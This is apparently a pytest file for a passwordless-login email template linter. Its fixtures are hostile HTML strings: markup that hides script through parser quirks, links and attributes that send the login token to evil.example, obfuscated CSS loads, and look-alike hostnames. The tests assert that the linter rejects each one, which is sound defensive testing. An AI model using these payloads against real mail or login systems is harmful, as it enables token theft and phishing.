"""What hides in HTML: markup that programs read in different ways, and links that only look like ours."""

from typing import Any
from urllib.parse import urlsplit

import pytest
from django.core.exceptions import ValidationError

from loginradius_passwordless import catalog
from loginradius_passwordless.catalog import linting
from loginradius_passwordless.models import EmailTemplate

pytestmark = pytest.mark.django_db(transaction=True)
KIND = "one_touch_login"
LINK = "#Url#?vtoken=#GUID#"
EVIL = "<a href='https://evil.example/?t=#GUID#'>Sign in</a><script>alert(1)</script>"
GOOD = f'<a href="{LINK}">Sign in</a>'


def errors(html: str, text: str = LINK, pages: Any = ()) -> list[str]:
    return [found.rule for found in linting.errors(KIND, "email", {"subject": "S", "text": text, "html": html}, pages)]


HIDDEN = {
    "comment that ends at once": f"<!-->{EVIL}-->{GOOD}",
    "comment that ends at once, 2": f"<!--->{EVIL}-->{GOOD}",
    "comment that ends with a bang": f"<!-- --!>{EVIL}-->{GOOD}",
    "CDATA, a comment to the first > elsewhere": f"<![CDATA[>{EVIL}]]>{GOOD}",
    "declaration, a comment to the first > elsewhere": f"<![if x>{EVIL}]>{GOOD}",
    "a title is text to its end": f"<title><!--</title>{EVIL}--></title>{GOOD}",
    "xmp is text to its end": f"<xmp><!--</xmp>{EVIL}--></xmp>{GOOD}",
    "noframes is text to its end": f"<noframes><!--</noframes>{EVIL}--></noframes>{GOOD}",
    "style ends at </style x>": f"<style>p{{}}</style x>{EVIL.replace('#GUID#', '')}</style>{GOOD}",
    "style has no self-closing form": f'<style/><a title="</style>{EVIL}">{GOOD}',
    "style does not end at </ style>": f'<style></ style><a title="</style>{EVIL}">{GOOD}',
    "== is the beginning of a value": f'<p title== "x onclick=alert(1) y">x</p>{GOOD}',
    "a name that begins with a quote": f"<p \"x=' onclick=alert(1) y='\">x</p>{GOOD}",
    "conditional comment without an end": f"<!--[if mso]>{EVIL}-->{GOOD}",
    "tag in a tag": f"<p <script>alert(1)</script>>{GOOD}",
}


@pytest.mark.parametrize("html", HIDDEN.values(), ids=HIDDEN)
def test_what_browsers_read_and_html_parser_does_not_is_refused(html):
    assert errors(html)


@pytest.mark.parametrize(
    "html",
    [
        f'<p title=a"#Name#">x</p>{GOOD}',
        f"<p a=' \" ' b=x' title=#Name# '>x</p>{GOOD}",
    ],
)
def test_a_value_in_an_attribute_without_quotes_of_its_own_is_refused(html):
    assert errors(html)


def test_a_stranger_s_name_becomes_no_attribute(api, mailbox):
    name = "x onmouseover=alert(1) y"
    try:
        EmailTemplate.objects.put(KIND, subject="S", text=LINK, html=f'<p title=a"#Name#">x</p>{GOOD}')
    except ValidationError:
        return
    api.post("auth/onetouchlogin/email", {"email": "a@example.com", "clientguid": "g" * 20, "name": name})
    assert " onmouseover=" not in mailbox[0].alternatives[0][0]


@pytest.mark.parametrize(
    "html",
    [
        f'<a href="{LINK}" ping="https://evil.example/?t=#GUID#">Sign in</a>',
        f'<img lowsrc="https://evil.example/?t=#GUID#">{GOOD}',
        f'<img dynsrc="https://evil.example/?t=#GUID#">{GOOD}',
    ],
)
def test_a_token_in_an_address_that_is_no_href_is_refused(html):
    assert errors(html)


@pytest.mark.parametrize("name", ["AppName", "IpAddress"])
def test_an_address_takes_the_parts_of_the_link_alone(name):
    assert errors(f'<a href="#{name}#">x</a>{GOOD}')


@pytest.mark.parametrize(
    "style",
    [
        r"background:\75rl(https://evil.example/p.png)",
        "background:image-set('https://evil.example/p.png' 1x)",
        "background:ur/**/l(x);width:exp/**/ression(alert(1))",
    ],
)
def test_a_style_that_loads_is_refused(style):
    assert errors(f'<p style="{style}">x</p>{GOOD}')


def test_a_style_sheet_that_imports_is_refused():
    assert errors(rf'<style>@\69mport "https://evil.example/x.css";</style>{GOOD}')


USUAL = [
    "<!doctype html><html lang=en><head><meta charset=utf-8><title>#AppName#</title></head><body></body></html>",
    '<!--[if mso]><table role="presentation"><tr><td width="480"><![endif]--><p>x</p><!--[if mso]></td></tr></table><![endif]-->',
    "<!--[if !mso]><!--><p>x</p><!--<![endif]-->",
    "<![if !mso]><p>x</p><![endif]>",
    "<!-- ---- head ---- --><br/><hr /><img src='cid:logo' alt=\"a > b\" width=20>",
    '<v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" arcsize="10%" stroke="f"><w:anchorlock/></v:roundrect>',
    "a < b, 1 <2, &lt;3 <o:p></o:p><p\n  class = 'x'\n>y</p >",
    "<style>@media (max-width: 480px) { p > a { color: #fff /* white */ } }</style>",
]


@pytest.mark.parametrize("html", USUAL)
def test_what_mails_usually_have_is_not_refused(html):
    assert errors(f"{html} {GOOD}") == []


# Where the token goes


def test_an_ampersand_after_a_page_without_a_path_makes_no_user_name_of_it():
    assert errors("", "https://shop.example&@evil.example/?vtoken=#GUID#", ["https://shop.example"])


def test_the_token_of_a_link_goes_to_no_other_host(api, shop, alice, mailbox):
    shop.return_urls = ["https://shop.example"]
    shop.full_clean()
    shop.save()
    try:
        EmailTemplate.objects.put("passwordless_login", subject="S", text="#Url#&@evil.example/?vtoken=#GUID#")
    except ValidationError:
        return
    api.get("auth/login/passwordlesslogin/email", email="alice@example.com", verificationurl="https://shop.example")
    [link] = [word for word in mailbox[0].body.split() if word.startswith("https://")]
    assert urlsplit(link).hostname == "shop.example"


def test_an_address_with_an_ideographic_full_stop_is_an_address():
    assert errors("", f"{LINK} evil。example?t=#GUID#")


def test_the_spelling_of_loginradius_is_ours():
    assert not errors("", "#url#?vtoken=#guid#")


def test_paragraphs_are_not_one_word():
    html = "<p>Your code for shop.example</p><p>#OTP#</p>"
    found = linting.errors("passwordless_login", "email", {"subject": "S", "text": "#OTP#", "html": html})
    assert found == []


@pytest.mark.parametrize(
    "address",
    [
        "https://login.example.com-verify.net/",
        "https://login.example.com@evil.net/",
        "https://logın.example.com/",
        "https://loɡin.example.com/",
        "(https://login-example-com.net/)",
    ],
)
def test_more_hosts_that_look_alike(address):
    assert "look-alike-host" in errors("", f"{LINK} {address}", ["https://login.example.com/x"])


@pytest.mark.parametrize("address", ["https://コーヒー.example/", "https://佐々木.example/"])
def test_japanese_is_written_in_one_script(address):
    assert errors("", f"{LINK} {address}") == []


def test_every_shipped_text_still_passes():
    for kind, channel in catalog.MESSAGES:
        for language in catalog.languages():
            text = catalog.shipped(kind, channel, language)
            name = "voice_text" if channel == "voice" else "text"
            fields = {name: text.text, **({"subject": text.subject, "html": text.html} if channel == "email" else {})}
            if channel == "voice":
                fields["text"] = catalog.shipped(kind, "sms", language).text
            assert linting.errors(kind, "email" if channel == "email" else "sms", fields) == [], (kind, language)
